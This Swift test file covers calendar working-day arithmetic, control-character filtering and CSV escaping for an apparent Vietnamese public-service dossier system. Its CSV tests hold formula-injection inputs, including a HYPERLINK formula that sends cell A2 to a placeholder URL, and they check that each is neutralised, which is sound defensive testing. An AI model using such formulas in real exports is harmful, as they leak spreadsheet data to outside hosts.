import Foundation
import MotCuaDomain
import Testing

/// Working-day arithmetic that does not visit each day: equal to the day-by-day walk, and fast for any span.
@Suite struct WorkingDayArithmeticTests {
    let calendar: WorkingCalendar

    init() throws {
        calendar = try ReferenceResources.publishedCalendar()
    }

    /// The definition, one day at a time.
    func walk(_ n: Int, from date: LocalDate) -> LocalDate {
        var result = date
        for _ in 0..<abs(n) {
            result = n > 0 ? calendar.nextWorkingDay(after: result) : calendar.previousWorkingDay(before: result)
        }
        return result
    }

    @Test func equalsTheDayByDayWalkForEverySpanUpToAYearAcrossThePublishedHolidays() {
        var failures: [String] = []
        var day = VietnamTime.date(2024, 12, 1)
        while day < VietnamTime.date(2027, 2, 1) {
            for n in [1, 4, 5, 6, 9, 23, 64, 130, 250, 365, -1, -5, -6, -23, -250] where calendar.addingWorkingDays(n, to: day) != walk(n, from: day) {
                failures.append("\(day) \(n >= 0 ? "+" : "-") \(abs(n)): \(calendar.addingWorkingDays(n, to: day)) != \(walk(n, from: day))")
            }
            day = day.adding(days: 3)
        }
        #expect(failures.isEmpty, "\(failures.count) failures, first: \(failures.prefix(3))")
    }

    @Test func countsWorkingDaysWithoutVisitingThem() {
        let start = VietnamTime.date(2025, 1, 1)
        let end = VietnamTime.date(2026, 12, 31)
        var walked = 0
        var cursor = start.adding(days: 1)
        while cursor <= end {
            if calendar.isWorkingDay(cursor) { walked += 1 }
            cursor = cursor.adding(days: 1)
        }
        #expect(calendar.workingDays(after: start, through: end) == walked)
        #expect(calendar.workingDays(after: end, through: start) == 0)
    }

    @Test func aHugeSpanIsAnsweredAtOnce() {
        let clock = ContinuousClock()
        let elapsed = clock.measure {
            // The API bounds spans to 365 working days; ten thousand (about forty years) is still instant.
            let far = calendar.addingWorkingDays(10_000, to: VietnamTime.date(2026, 12, 7))
            #expect(far.year > 2060)
            #expect(calendar.isWorkingDay(far))
        }
        #expect(elapsed < .seconds(1))
    }

    @Test func theEndOfADayIsAPlainInstantForAnyDate() {
        let date = VietnamTime.date(2026, 12, 7)
        #expect(calendar.instant(on: date, atMinute: 23 * 60 + 59) == VietnamTime.at(2026, 12, 7, 23, 59))
    }
}

@Suite struct TextInputTests {
    @Test func controlCharactersAreRefusedAndLineBreaksOnlyInMultiLineText() {
        #expect(TextInput.forbiddenScalar(in: "Nguyễn Văn Bình") == nil)
        #expect(TextInput.forbiddenScalar(in: "a\u{0}b") == "\u{0}")
        #expect(TextInput.forbiddenScalar(in: "bell\u{7}") == "\u{7}")
        #expect(TextInput.forbiddenScalar(in: "del\u{7F}") == "\u{7F}")
        #expect(TextInput.forbiddenScalar(in: "c1\u{85}") == "\u{85}")
        #expect(TextInput.forbiddenScalar(in: "rtl\u{202E}") == "\u{202E}")
        #expect(TextInput.forbiddenScalar(in: "two\nlines") == "\n")
        #expect(TextInput.forbiddenScalar(in: "two\nlines\tand a tab", lines: .multiple) == nil)
        #expect(TextInput.forbiddenScalar(in: "carriage\r", lines: .multiple) == "\r")
        #expect(TextInput.describe("\u{0}") == "U+0000")
        #expect(TextInput.describe("\u{202E}") == "U+202E")
    }
}

@Suite struct CSVCellTests {
    @Test func formulasAreNeutralisedAndNumbersKept() {
        #expect(CSVCell.encode("=HYPERLINK(\"http://x/?\"&A2,\"…\")") == "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"…\"\")\"")
        #expect(CSVCell.encode("+84 912") == "'+84 912")
        #expect(CSVCell.encode("-cmd") == "'-cmd")
        #expect(CSVCell.encode("@SUM(A1)") == "'@SUM(A1)")
        #expect(CSVCell.encode("\tx") == "'\tx")
        #expect(CSVCell.encode("\rx") == "\"'\rx\"")
        #expect(CSVCell.encode("-0.50") == "-0.50")
        #expect(CSVCell.encode("+12") == "+12")
        #expect(CSVCell.encode("Nguyễn Văn Bình") == "Nguyễn Văn Bình")
        #expect(CSVCell.encode("a,b") == "\"a,b\"")
        #expect(CSVCell.encode("") == "")
        #expect(CSVCell.encode("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(CSVCell.encode("a,b \"c\", d") == "\"a,b \"\"c\"\", d\"")
        #expect(CSVCell.encode("line\nbreak") == "\"line\nbreak\"")
    }
}

@Suite struct SystemCompletionVersionTests {
    func entry(_ sequence: Int, _ actor: Actor) -> HistoryEntry {
        HistoryEntry(
            dossierID: UUID(), sequence: sequence, action: "x", actor: actor, at: Date(timeIntervalSince1970: 0), statusBefore: nil,
            statusAfter: .received, stepBefore: nil, stepAfter: .receipt, note: nil, previousHash: "")
    }

    @Test func backgroundCompletionsDoNotMakeAnOfficialsVersionStaleButAPersonsEntryDoes() {
        let officer = Actor.official(id: "kinhbac.tiepnhan", role: .receptionOfficer, agencyID: "xa-09187")
        let verifier = Actor.system("registry-verifier")
        let history = [entry(1, officer), entry(2, verifier), entry(3, verifier)]
        #expect(DossierWorkflow.versionAfterSystemCompletions(seen: 1, history: history) == 3)
        #expect(DossierWorkflow.versionAfterSystemCompletions(seen: 3, history: history) == 3)
        let touched = [entry(1, officer), entry(2, verifier), entry(3, officer), entry(4, verifier)]
        #expect(DossierWorkflow.versionAfterSystemCompletions(seen: 1, history: touched) == 2)
        #expect(DossierWorkflow.versionAfterSystemCompletions(seen: 3, history: touched) == 4)
    }
}
